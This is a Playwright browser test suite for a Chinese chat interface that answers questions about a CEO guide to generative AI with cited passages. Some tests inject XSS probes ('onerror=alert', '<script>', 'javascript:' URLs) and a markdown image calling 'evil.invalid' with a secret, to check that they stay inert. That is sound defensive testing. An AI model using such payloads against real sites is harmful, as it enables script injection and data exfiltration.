"""The chat page in a real browser, on the digest and an assistant that answers by script."""

from __future__ import annotations

import re
from concurrent.futures import FIRST_COMPLETED, ThreadPoolExecutor, wait
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest
from playwright.sync_api import expect

from ingest.document import Book
from tests.ui.conftest import NewPage, Service, Watch, ask, ask_and_reload, open_chat, served
from tests.ui.scripted import PROBE
from ui.feedback import FeedbackStore

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page, Route

pytestmark = pytest.mark.browser

_FIGURES = "多少受访 CEO 把数据的来源看作障碍？"


def quoted(chip: Locator, book: Book) -> tuple[str, str]:
    """Give the passage behind a chip and the quote in it, from the book."""
    target = re.match(r"#src-(.+):(\d+)-(\d+)", chip.get_attribute("href") or "")
    assert target
    text = book.passages_by_id[target[1]].text
    return text, text[int(target[2]) : int(target[3])]


def test_a_figure_is_answered_with_chip_quote_note_and_pages(page: Page, book: Book) -> None:
    answer = ask(page, _FIGURES)
    expect(answer).to_contain_text("61%")
    chip = answer.locator("a.chip", has_text="第4章·注43")
    chip.click()
    panel = page.locator("#panel")
    expect(panel.locator("mark")).to_be_in_viewport()
    passage, quote = quoted(chip, book)
    assert panel.locator("mark").evaluate("node => node.textContent") == quote
    assert panel.locator("blockquote").evaluate("node => node.textContent") == passage
    for part in (
        "第 4 章 平台、数据和治理",
        "3. 治理：需要了解的事项",
        "第 41–50 页",
        "200 US CEOs",
    ):
        expect(panel).to_contain_text(part)


def test_a_chip_opens_and_closes_by_keyboard(page: Page) -> None:
    chip = ask(page, _FIGURES).locator("a.chip").first
    chip.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#panel mark")).to_be_in_viewport()
    expect(page.locator("#panel .panel-title")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#panel")).to_be_hidden()
    expect(chip).to_be_focused()


def test_bold_signs_of_the_book_stay_in_the_quote_but_out_of_sight(page: Page, book: Book) -> None:
    chip = ask(page, "怎样做好数据治理？").locator("a.chip").first
    chip.click()
    mark = page.locator("#panel mark")
    expect(mark).to_be_visible()
    assert "**" in quoted(chip, book)[1]
    assert mark.evaluate("node => node.textContent") == quoted(chip, book)[1]
    widths = mark.locator(".unseen").evaluate_all("all => all.map(n => n.offsetWidth)")
    assert widths
    assert not any(widths)


def test_the_panel_links_to_the_source_and_copies_references(page: Page) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ask(page, "给我一个有链接的数字").locator("a.chip").first.click()
    block = page.locator("#panel .note-block").first
    link = block.locator("a.out")
    expect(link).to_have_attribute("href", "https://www.ibm.com/reports/data-breach")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    block.locator("summary").click()
    block.get_by_role("button", name="复制 GB/T 7714").click()
    expect(block.get_by_role("button", name="复制 GB/T 7714")).to_have_text("已复制")
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert "[R/OL]" in copied
    assert copied.endswith("https://www.ibm.com/reports/data-breach.")


def test_sentences_appear_one_after_the_other(page: Page, service: Service) -> None:
    go = service.data_dir / "go"
    page.locator("#question textarea").fill("慢慢说")
    page.locator("#question textarea").press("Enter")
    answer = page.locator("#chat .answer")
    expect(answer).to_contain_text("61%")
    expect(answer.locator("p")).to_have_count(1)
    expect(page.get_by_role("button", name="停止")).to_be_visible()
    expect(answer.locator(".acts")).to_have_count(0)
    go.touch()
    try:
        expect(answer.locator("a.chip")).to_have_count(2)
        expect(answer.locator(".acts")).to_have_count(1)
        expect(page.get_by_role("button", name="提问")).to_be_visible()
    finally:
        go.unlink()


def test_stopping_brings_the_question_box_back(page: Page) -> None:
    page.locator("#question textarea").fill("慢慢说")
    page.locator("#question textarea").press("Enter")
    page.get_by_role("button", name="停止").click()
    expect(page.get_by_role("button", name="提问")).to_be_visible()
    expect(ask(page, _FIGURES)).to_contain_text("61%")


def test_a_refusal_looks_like_one_and_offers_chapters(page: Page) -> None:
    answer = ask(page, "明天天气怎么样？")
    expect(answer).to_have_class(re.compile("refusal"))
    expect(answer.locator(".verdict")).to_have_text("书中没有谈到")
    expect(answer.locator("a.chip")).to_have_count(0)
    answer.locator("a.near", has_text="第 12 章 可持续发展").click()
    expect(page.locator("#panel .panel-title")).to_have_text("可持续发展")


def test_a_chapter_leads_to_topics_figures_and_their_passages(page: Page) -> None:
    page.locator("#contents a", has_text="平台、数据和治理").click()
    panel = page.locator("#panel")
    expect(panel.locator(".topic")).to_have_count(3)
    expect(panel.locator(".topic").first).to_contain_text("需要采取的行动")
    figure = panel.locator(".figure", has_text="61%")
    expect(figure).to_contain_text("注 43")
    figure.click()
    expect(panel.locator("mark")).to_contain_text("61%")
    panel.get_by_role("button", name="返回").click()
    expect(panel.locator(".panel-title")).to_have_text("平台、数据和治理")


def test_examples_and_follow_ups_ask_by_a_click(page: Page) -> None:
    expect(page.locator("#chat .example")).to_have_count(5)
    page.locator("#chat .example", has_text="改善客户服务").click()
    page.locator("#chat .acts").wait_for()
    expect(page.locator("#chat .step")).to_have_count(3)
    page.locator("#chat .option").first.click()
    expect(page.locator("#chat .acts")).to_have_count(2)
    expect(page.locator("#chat .asked").last).to_contain_text("有哪些数据支持？")


def test_retry_undo_and_clear(page: Page) -> None:
    ask(page, _FIGURES)
    ask(page, "怎样做好数据治理？")
    with page.expect_response(lambda reply: "queue/join" in reply.url):
        page.get_by_role("button", name="重试").click()
    expect(page.locator("#chat .acts")).to_have_count(2)
    page.get_by_role("button", name="撤销").click()
    expect(page.locator("#chat .acts")).to_have_count(1)
    expect(page.locator("#question textarea")).to_have_value("怎样做好数据治理？")
    page.locator("#clear").click()
    expect(page.locator("#chat .example")).to_have_count(5)


def test_copy_takes_the_answer_with_its_marks(page: Page) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ask(page, _FIGURES).get_by_role("link", name="复制").click()
    expect(page.locator("#announce")).to_have_text("已复制")
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert "[第4章·注43]" in copied
    assert "200 US CEOs" in copied
    assert "有帮助" not in copied


def test_export_writes_the_conversation_with_citations(page: Page, tmp_path: Path) -> None:
    ask(page, _FIGURES)
    with page.expect_download() as waiting:
        page.locator("#export").click()
    path = tmp_path / "out.md"
    waiting.value.save_as(path)
    text = path.read_text("utf-8")
    assert waiting.value.suggested_filename.endswith(".md")
    for part in (f"## {_FIGURES}", "[第4章·注43]", "第 41–50 页", "注 43：2023 IBM"):
        assert part in text


def test_feedback_is_stored_once_and_changed_by_a_second_click(
    page: Page, service: Service
) -> None:
    answer = ask(page, _FIGURES)
    answer.get_by_role("link", name="有帮助").click()
    page.locator("#comment").get_by_role("button", name="关闭").click()
    answer.get_by_role("link", name="引用不符").click()
    page.locator("#comment textarea").fill("注号应为 44")
    page.locator("#comment").get_by_role("button", name="提交").click()
    expect(page.locator("#comment")).to_be_hidden()
    link = answer.get_by_role("link", name="引用不符").get_attribute("href") or ""
    key = link.rpartition(":")[2]
    kept = [f for f in FeedbackStore(service.data_dir).list() if f.answer_id == key]
    assert [(f.rating, f.comment) for f in kept] == [("wrong_citation", "注号应为 44")]


def test_a_conversation_survives_a_reload(page: Page) -> None:
    ask_and_reload(page, _FIGURES)
    expect(page.locator("#chat .answer")).to_contain_text("61%")
    page.locator("#chat a.chip").first.click()
    expect(page.locator("#panel mark")).to_be_visible()


def test_history_changed_in_the_browser_is_no_markup(new_page: NewPage, service: Service) -> None:
    page = open_chat(new_page(), service.url)
    ask_and_reload(page, "探针 " + "<img src=x onerror=alert(1)>")
    page.locator("#chat .answer").wait_for()
    assert page.locator("#chat img, #chat script").count() == 0


def test_markup_in_question_and_answer_stays_text(page: Page, watch: Watch) -> None:
    page.on("dialog", lambda dialog: watch.errors.append(f"dialog: {dialog.message}"))
    question = "探针 <img src=x onerror=alert(9)> ![p](https://evil.invalid/q) **x**"
    answer = ask(page, question)
    expect(page.locator("#chat .asked")).to_have_text(question)
    for part in ("<script>alert(2)</script>", "![p](https://evil.invalid/?q=secret)", "**bold**"):
        expect(answer).to_contain_text(part)
    assert page.locator("#chat img, #chat script, #chat h1, #chat code").count() == 0
    links = page.locator("#chat a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert not [href for href in links if not re.match(r"#|https://ibm\.co/", href)]
    assert watch.outside == []


def test_markup_in_a_passage_and_its_notes_stays_text(page: Page, watch: Watch) -> None:
    """The book is a file that anybody may have written: its text is no more trusted than others."""

    def spoil(route: Route) -> None:
        passage = route.fetch().json()
        passage["text"] += PROBE
        passage["heading"] = passage["speaker"] = PROBE
        passage["notes"][0] |= {"text": PROBE, "url": "javascript:alert(4)"}
        route.fulfill(json=passage)

    page.on("dialog", lambda dialog: watch.errors.append(f"dialog: {dialog.message}"))
    page.context.route("**/api/passages/*", spoil)
    ask(page, _FIGURES).locator("a.chip").first.click()
    panel = page.locator("#panel")
    expect(panel.locator("mark")).to_contain_text("61%")
    for place in (".panel-title", ".speaker", ".passage", ".note-text"):
        expect(panel.locator(place)).to_contain_text("<script>alert(2)</script>")
    assert panel.locator(":is(img, script, h1, code)").count() == 0
    assert panel.locator("a").count() == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_in_light_and_dark(
    new_page: NewPage, service: Service, scheme: str
) -> None:
    page = open_chat(new_page(color_scheme=scheme), service.url)
    ask(page, _FIGURES)
    shades = page.locator("#chat .answer p").first.evaluate(
        """node => [getComputedStyle(node).color, getComputedStyle(document.body).backgroundColor]
            .map(c => c.match(/\\d+/g).slice(0, 3).map(Number).reduce((a, b) => a + b))"""
    )
    ink, paper = shades
    assert (ink < paper) == (scheme == "light")
    assert abs(ink - paper) > 450


def test_a_phone_shows_everything_without_scrolling_sideways(
    new_page: NewPage, service: Service
) -> None:
    page = open_chat(new_page(viewport={"width": 390, "height": 780}, has_touch=True), service.url)
    ask(page, _FIGURES).locator("a.chip").first.tap()
    expect(page.locator("#panel mark")).to_be_in_viewport()
    page.locator("#panel .shut").tap()
    page.locator("#contents summary").tap()
    expect(page.locator("#contents a").first).to_be_visible()
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 390
    expect(page.locator("#question textarea")).to_be_in_viewport()


def test_reduced_motion_is_respected(new_page: NewPage, service: Service) -> None:
    page = open_chat(new_page(reduced_motion="reduce"), service.url)
    seconds = page.locator("#desk").evaluate(
        "n => parseFloat(getComputedStyle(n).transitionDuration)"
    )
    assert seconds < 0.001


def test_the_book_and_the_mode_are_named(page: Page) -> None:
    expect(page.locator("#masthead")).to_contain_text("当前书目：随附摘要版")
    expect(page.locator("#masthead")).to_contain_text("摘录原句作答")
    expect(page.locator("h1")).to_have_text("CEO 生成式 AI 行动指南")


def test_the_page_speaks_english_too(page: Page) -> None:
    ask(page, _FIGURES)
    page.locator("#masthead a", has_text="English").click()
    expect(page.locator("#contents summary")).to_have_text("Contents")
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
    expect(page.locator("html")).to_have_attribute("lang", "en")
    page.evaluate("() => { document.documentElement.lang = 'zh-CN'; }")  # as gradio may do late
    expect(page.locator("html")).to_have_attribute("lang", "en")
    expect(page.locator("#chat .answer")).to_contain_text("61%")  # the conversation comes along
    page.locator("#chat a.chip", has_text="ch. 4, note 43").click()
    expect(page.locator("#panel mark")).to_contain_text("61%")
    expect(page.locator("#panel .note-block h3").first).to_have_text("Note 43")


def test_everything_has_a_name_for_screen_readers(page: Page) -> None:
    ask(page, _FIGURES)
    expect(page.get_by_role("textbox", name="问题")).to_be_visible()
    expect(page.get_by_role("button", name="提问")).to_be_visible()
    expect(page.get_by_role("navigation", name="章节")).to_be_visible()
    assert page.locator("#chat [aria-label*='<div']").count() == 0


def test_asking_too_often_is_said_in_chinese(
    new_page: NewPage, tmp_path: Path, watch: Watch
) -> None:
    watch.provoked = ["429"]
    with served(tmp_path, asks_per_minute="1") as limited:
        page = open_chat(new_page(), limited.url)
        ask(page, _FIGURES)
        page.locator("#question textarea").fill("再问一次")
        page.locator("#question textarea").press("Enter")
        expect(page.locator(".toast-body")).to_contain_text("提问过于频繁")
        expect(page.get_by_role("button", name="提问")).to_be_visible()


def test_too_many_waiting_is_said_in_chinese(
    new_page: NewPage, tmp_path: Path, watch: Watch
) -> None:
    with served(tmp_path, waiting_limit="1") as full, ThreadPoolExecutor(4) as readers:
        page = open_chat(new_page(), full.url)
        asking = [readers.submit(_ask_program, full) for _ in range(4)]
        # Two are being answered and one waits: the fourth is turned away, and so is the page.
        turned_away, _ = wait(asking, timeout=30, return_when=FIRST_COMPLETED)
        page.locator("#question textarea").fill(_FIGURES)
        page.locator("#question textarea").press("Enter")
        expect(page.locator(".toast-body")).to_contain_text("现在提问的人较多")
        expect(page.get_by_role("button", name="提问")).to_be_visible()
        expect(page.locator("#question textarea")).to_have_value(_FIGURES)  # nothing is lost
        (tmp_path / "go").touch()
        assert "现在提问的人较多" in turned_away.pop().result().json()["detail"]
        assert sorted(one.result().status_code for one in asking) == [200, 200, 200, 503]


def _ask_program(service: Service) -> httpx.Response:
    asked = {"question": "堵"}
    return httpx.post(f"{service.url}/api/ask", json=asked, timeout=60, trust_env=False)
